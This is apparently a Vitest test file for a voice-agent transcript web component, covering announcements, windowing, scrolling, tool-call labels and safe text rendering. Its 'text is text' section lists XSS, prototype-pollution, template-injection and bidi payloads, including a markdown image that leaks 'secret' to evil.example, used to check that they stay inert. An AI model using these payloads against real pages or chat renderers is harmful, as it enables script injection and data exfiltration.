/** The transcript: what enters the log and when, the window, the scroll position, text that stays text. */
import { html } from 'lit';
import { describe, expect, test } from 'vitest';
import type { Message } from '../../../src/contract/index.js';
import type { VoiceAgentTranscript } from '../../../src/views/transcript.js';
import { axeCheck, mount, part, set, strings, turn } from './mount.js';

const of = async (messages: readonly Message[]): Promise<VoiceAgentTranscript> => {
  const size = 'block-size: 400px; inline-size: 360px';
  return mount<VoiceAgentTranscript>(
    html`<voice-agent-transcript style=${size} .messages=${messages} .strings=${strings}></voice-agent-transcript>`,
  );
};
const many = (count: number): Message[] => Array.from({ length: count }, (_, index) => turn(`m${index}`, `Message ${index}`));
const log = (view: VoiceAgentTranscript): HTMLElement => view.renderRoot.querySelector('[role=log]') as HTMLElement;
const tail = (view: VoiceAgentTranscript): HTMLElement => view.renderRoot.querySelector('.tail') as HTMLElement;
const texts = (root: ParentNode): (string | null)[] => [...root.querySelectorAll('p[dir]')].map((text) => text.textContent);
const scroller = (view: VoiceAgentTranscript): HTMLElement => part(view, 'scroller');
const atEnd = (view: VoiceAgentTranscript): boolean => {
  const { scrollTop, scrollHeight, clientHeight } = scroller(view);
  return scrollHeight - clientHeight - scrollTop < 2;
};
const scrolled = (view: VoiceAgentTranscript): Promise<unknown> =>
  new Promise((resolve) => scroller(view).addEventListener('scroll', resolve, { once: true }));

/** What a screen reader would be told: rows added to the log after the start. */
function announcements(view: VoiceAgentTranscript): () => string[] {
  const told: string[] = [];
  const take = (records: MutationRecord[]): void => {
    for (const { addedNodes } of records) for (const node of addedNodes) told.push(node.textContent ?? '');
  };
  const observer = new MutationObserver(take);
  observer.observe(log(view), { childList: true, subtree: true, characterData: true });
  return () => {
    take(observer.takeRecords());
    return told;
  };
}

describe('the log', () => {
  test('tells each finished turn once, with its speaker; streaming text stands outside', async () => {
    const view = await of([]);
    const told = announcements(view);
    for (const text of ['Hel', 'Hello', 'Hello the']) await set(view, { messages: [turn('a', text, { status: 'streaming' })] });
    expect(told()).toEqual([]);
    expect(texts(tail(view))).toEqual(['Hello the']);
    const done = turn('a', 'Hello there');
    await set(view, { messages: [done] });
    await set(view, { messages: [done, turn('b', 'Hi', { role: 'user' })] });
    expect(told()).toEqual(['Agent: Hello there', 'You: Hi']);
    expect(texts(tail(view))).toEqual([]);
  });

  test('a spoken turn that waits for its text holds back the answer, so that they are told in order', async () => {
    const view = await of([]);
    const told = announcements(view);
    const answer = turn('b', 'Sure.');
    await set(view, { messages: [turn('a', '', { role: 'user', status: 'streaming' }), answer] });
    expect(told()).toEqual([]);
    expect(texts(view.renderRoot)).toEqual(['Writing it down…', 'Sure.']);
    await set(view, { messages: [turn('a', 'Can you?', { role: 'user' }), answer] });
    expect(told()).toEqual(['You: Can you?', 'Agent: Sure.']);
  });

  test('but not for ever', async () => {
    const view = await of([turn('a', '', { role: 'user', status: 'streaming' }), ...many(8)]);
    expect(texts(log(view))).toContain('Message 7');
  });

  test('a turn whose local id becomes the server’s is not told again', async () => {
    const view = await of([turn('a', 'Hello')]);
    const told = announcements(view);
    await set(view, { messages: [turn('a', 'Hello'), turn('local', 'Typed', { role: 'user', via: 'text' })] });
    await set(view, { messages: [turn('a', 'Hello'), turn('item_1', 'Typed', { role: 'user', via: 'text' })] });
    expect(told()).toEqual(['You: Typed']);
  });

  test('paging back and to the end again tells nothing', async () => {
    const view = await of(many(300));
    const told = announcements(view);
    for (let page = 0; page < 4; page++) {
      part(view, 'earlier-button').click();
      await view.updateComplete;
    }
    part(view, 'latest-button').click();
    await view.updateComplete;
    expect(told()).toEqual([]);
    expect(texts(view.renderRoot).at(-1)).toBe('Message 299');
    expect(atEnd(view)).toBe(true);
  });

  test('new turns are told while the visitor reads far above', async () => {
    const messages = many(300);
    const view = await of(messages);
    for (let page = 0; page < 4; page++) {
      part(view, 'earlier-button').click();
      await view.updateComplete;
    }
    const told = announcements(view);
    await set(view, { messages: [...messages, turn('new', 'Something new')] });
    expect(told()).toEqual(['Agent: Something new']);
    expect(part(view, 'latest-button').textContent).toContain('New messages');
  });
});

describe('marks', () => {
  test.each([
    [turn('a', 'It left this mor', { status: 'interrupted' }), 'Agent: It left this morInterrupted'],
    [turn('a', '', { role: 'user', status: 'failed' }), 'You: Spoken messageCould not be written down'],
    [turn('a', 'It is', { status: 'failed' }), 'Agent: It isThe answer broke off'],
    [turn('a', '', { role: 'user' }), 'You: Spoken message'],
    [turn('a', 'A note', { role: 'system' }), 'Note: A note'],
  ])('%#', async (message, words) => {
    const view = await of([message]);
    expect(log(view).textContent).toBe(words);
  });

  test('an answer without words is no row; the line without turns says what will be here', async () => {
    const view = await of([turn('a', '  ')]);
    expect(log(view).children).toHaveLength(0);
    await set(view, { messages: [] });
    expect(part(view, 'empty').hidden).toBe(false);
  });

  test('tool lines stand where they happened and enter the log when they are over', async () => {
    const messages = [turn('a', 'Is it raining?', { role: 'user' })];
    const view = await of(messages);
    const call = { id: 't', callId: 'c', name: 'weather', arguments: '{}' } as const;
    await set(view, { toolCalls: [{ ...call, status: 'running' }] });
    expect(texts(tail(view))).toEqual(['Using \u2068weather\u2069…']);
    await set(view, { messages: [...messages, turn('b', 'No.')], toolCalls: [{ ...call, status: 'done' }] });
    expect(texts(log(view))).toEqual(['Is it raining?', 'Used \u2068weather\u2069', 'No.']);
  });
});

describe('the window', () => {
  test('10,000 turns are at most 80 rows and 700 nodes, and stay so while more come', async () => {
    const messages = many(10_000);
    const view = await of(messages);
    const nodes = (): number => {
      const walker = document.createTreeWalker(view.renderRoot);
      let count = 0;
      while (walker.nextNode()) count++;
      return count;
    };
    expect(texts(view.renderRoot)).toHaveLength(40);
    for (let more = 0; more < 100; more++) {
      messages.push(turn(`n${more}`, `New ${more}`));
      await set(view, { messages: [...messages] });
    }
    expect(texts(view.renderRoot).length).toBeLessThanOrEqual(80);
    for (let page = 0; page < 5; page++) {
      part(view, 'earlier-button').click();
      await view.updateComplete;
    }
    expect(texts(view.renderRoot).length).toBeLessThanOrEqual(88);
    expect(nodes()).toBeLessThanOrEqual(700);
  });

  test('every turn can be reached by "Show earlier" and back by "Show newer"', async () => {
    const view = await of(many(230));
    const seen = new Set<string | null>();
    const earlier = part(view, 'earlier-button');
    while (!earlier.hidden) {
      for (const text of texts(view.renderRoot)) seen.add(text);
      earlier.click();
      await view.updateComplete;
    }
    for (const text of texts(view.renderRoot)) seen.add(text);
    expect(seen.size).toBe(230);
    const newer = part(view, 'newer-button');
    for (let page = 0; page < 10 && !newer.hidden; page++) {
      newer.click();
      await view.updateComplete;
    }
    expect(newer.hidden).toBe(true);
    expect(texts(view.renderRoot).at(-1)).toBe('Message 229');
  });

  test('paging back keeps the focus and the place of what was read', async () => {
    const view = await of(many(100));
    const button = part(view, 'earlier-button');
    button.focus();
    const row = view.renderRoot.querySelector('[data-key=m60]') as HTMLElement;
    scroller(view).scrollTop = 0;
    await scrolled(view);
    const before = row.getBoundingClientRect().top;
    button.click();
    await view.updateComplete;
    expect(Math.abs(row.getBoundingClientRect().top - before)).toBeLessThan(2);
    expect(view.shadowRoot?.activeElement).toBe(button);
    button.click();
    await view.updateComplete;
    button.click();
    await view.updateComplete;
    await view.updateComplete;
    expect(button.hidden).toBe(true);
    expect(view.shadowRoot?.activeElement).toBe(scroller(view));
  });

  test('a streaming step touches the last row alone', async () => {
    const messages = many(10_000);
    const view = await of([...messages, turn('s', 'A', { status: 'streaming' })]);
    const touched = new Set<Node>();
    const observer = new MutationObserver((records) => records.forEach(({ target }) => touched.add(target)));
    observer.observe(view.renderRoot, { childList: true, subtree: true, characterData: true, attributes: true });
    await set(view, { messages: [...messages, turn('s', 'A word', { status: 'streaming' })] });
    for (const { target } of observer.takeRecords()) touched.add(target);
    expect([...touched].map((node) => node.nodeName)).toEqual(['#text']);
  });
});

describe('the scroll position', () => {
  test('stays at the end while text comes in', async () => {
    const messages = many(30);
    const view = await of(messages);
    expect(atEnd(view)).toBe(true);
    await set(view, { messages: [...messages, turn('s', 'word '.repeat(200), { status: 'streaming' })] });
    expect(atEnd(view)).toBe(true);
  });

  test('stays put when the visitor has scrolled up, by however little, and says that there is more', async () => {
    const messages = many(30);
    const view = await of(messages);
    scroller(view).scrollTop -= 6;
    await scrolled(view);
    await view.updateComplete;
    const before = scroller(view).scrollTop;
    await set(view, { messages: [...messages, turn('n', 'New')] });
    expect(scroller(view).scrollTop).toBe(before);
    const latest = part(view, 'latest-button');
    expect(latest.textContent?.trim()).toBe('New messages');
    latest.focus();
    latest.click();
    await view.updateComplete;
    await view.updateComplete;
    expect(atEnd(view)).toBe(true);
    expect(view.shadowRoot?.activeElement).toBe(scroller(view));
  });

  test('the region is named, reachable by keyboard, and clean for axe', async () => {
    const view = await of(many(60));
    expect(scroller(view).tabIndex).toBe(0);
    expect(scroller(view).getAttribute('aria-label')).toBe('Transcript');
    expect(await axeCheck(view)).toEqual([]);
  });
});

describe('text is text', () => {
  const CORPUS = [
    '<img src="https://evil.example/a.png" onerror="window.pwned=1">',
    '<svg/onload=window.pwned=1><script>window.pwned=1</script>',
    '![x](https://evil.example/p.png?q=secret) [y](javascript:window.pwned=1)',
    '<a href="java\nscript:window.pwned=1">x</a><iframe srcdoc="<script>parent.pwned=1</script>">',
    '</p></div><style>*{background:url(https://evil.example/c)}</style>',
    '{"__proto__":{"polluted":1}} ${7*7} {{7*7}} <!-- lit$0$ --> <?lit$0$>',
    '\u202Eevil\u202C \u2066isolate\u2069 \u200Bzero\u200Dwidth\u0000\uFFFE',
  ];

  test.each(CORPUS)('%s', async (payload) => {
    performance.clearResourceTimings();
    const view = await of([
      turn('a', payload),
      turn('b', payload, { role: 'user', status: 'streaming' }),
    ]);
    await set(view, { toolCalls: [{ id: 't', callId: 'c', name: payload, arguments: payload, status: 'running' }] });
    expect(texts(log(view))).toEqual([payload]);
    expect(texts(tail(view))[0]).toBe(payload);
    expect(view.renderRoot.querySelector('img, script, iframe, a, .row style')).toBeNull();
    expect((window as { pwned?: number }).pwned).toBeUndefined();
    expect(performance.getEntriesByType('resource').filter(({ name }) => name.includes('evil'))).toEqual([]);
  });

  test('each turn has its own direction and cannot turn its neighbours', async () => {
    const view = await of([turn('a', 'مرحبا order 12'), turn('b', '\u202Eabc')]);
    for (const text of log(view).querySelectorAll('p')) {
      expect(text.dir).toBe('auto');
      expect(getComputedStyle(text).unicodeBidi).toMatch(/isolate|plaintext/);
    }
    const [arabic, other] = log(view).querySelectorAll('p');
    expect(getComputedStyle(arabic as Element).direction).toBe('rtl');
    expect(getComputedStyle(other as Element).direction).toBe('ltr');
  });
});

test('tool lines say how far a call is, and which server runs it', async () => {
  const view = await of([turn('a', 'One moment.')]);
  const call = { id: 't', callId: 'c', name: 'pay', arguments: '{}' };
  for (const [status, words, place] of [
    ['streaming', 'Using \u2068pay\u2069…', tail],
    ['waiting', '\u2068pay\u2069 waits for your OK', tail],
    ['running', 'Using \u2068pay\u2069…', tail],
    ['done', 'Used \u2068pay\u2069', log],
    ['failed', '\u2068pay\u2069 did not work', log],
    ['denied', '\u2068pay\u2069 was not allowed', log],
  ] as const) {
    await set(view, { toolCalls: [{ ...call, status }] });
    expect(texts(place(view)).at(-1), status).toBe(words);
  }
  await set(view, { toolCalls: [{ ...call, server: 'shop', status: 'done' }, { id: 'l', callId: 'l', name: 'mcp_list_tools', server: 'mail', arguments: '', status: 'failed' }] });
  expect(texts(log(view)).slice(1)).toEqual(['Used \u2068pay\u2069 (\u2068shop\u2069)', 'The tools of \u2068mail\u2069 are out of reach']);
});
